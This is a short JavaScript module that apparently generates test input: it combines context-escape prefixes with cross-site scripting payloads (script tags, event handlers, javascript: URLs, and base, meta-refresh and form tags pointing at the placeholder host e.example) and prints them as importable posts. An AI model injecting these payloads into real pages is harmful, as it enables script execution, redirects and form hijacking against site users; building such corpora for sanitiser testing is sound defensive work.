// Texts that would run a script if a page took them for its own: each way out
// of a place, with each thing that could be run behind it. Run by itself it
// prints them as posts to import.
import {argv} from 'node:process';
import {fileURLToPath} from 'node:url';

const ways = ['', '"', '\'', '">', '\'>', '<!--', '-->', '</title>',
              '</textarea>', '</script>', ']]>', '&quot;>', '&#34;>', '\u00ab">',
              '`>', '{{x}}', '%22%3E', '\\">', '/">', '</style>'];
const deeds = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
               '<svg onload=alert(1)>', ' onmouseover=alert(1) x=',
               ' autofocus onfocus=alert(1) ', 'javascript:alert(1)',
               'data:text/html,<script>alert(1)</script>',
               '<iframe srcdoc="<script>alert(1)</script>">',
               '<a href=javascript:alert(1)>x</a>',
               '<style>@import"//e.example/x"</style>',
               '<meta http-equiv=refresh content="0;url=//e.example">',
               '<base href=//e.example/>',
               '<form action=//e.example><input type=submit>',
               '<math><mtext></p><img src=x onerror=alert(1)>',
               '//e.example/x', '<ScRiPt >alert(1)</sCrIpT >'];

export const texts = ways.flatMap((way) => deeds.map(
    (deed) => (way + deed).trim()));

if (argv[1] === fileURLToPath(import.meta.url)) {
    for (const [n, text] of texts.entries()) {
        console.log(JSON.stringify({
            kind: 'offer', title: `${n} ${text}`.trim(), text,
            source: `text-${n}`}));
    }
}
